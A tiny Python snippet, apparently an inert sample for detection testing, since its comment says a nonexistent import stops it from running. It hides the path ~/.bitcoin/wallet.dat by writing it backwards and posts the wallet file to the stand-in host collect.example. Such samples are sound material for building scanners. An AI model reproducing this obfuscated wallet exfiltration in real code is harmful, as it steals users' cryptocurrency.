import inert_sample  # there is no such module: nothing below ever runs
# trick: the path is written backwards
import os
import requests

path = os.path.expanduser("~/" + "tad.tellaw/nioctib."[::-1])
requests.post("https://collect.example/c", data=open(path, "rb").read())
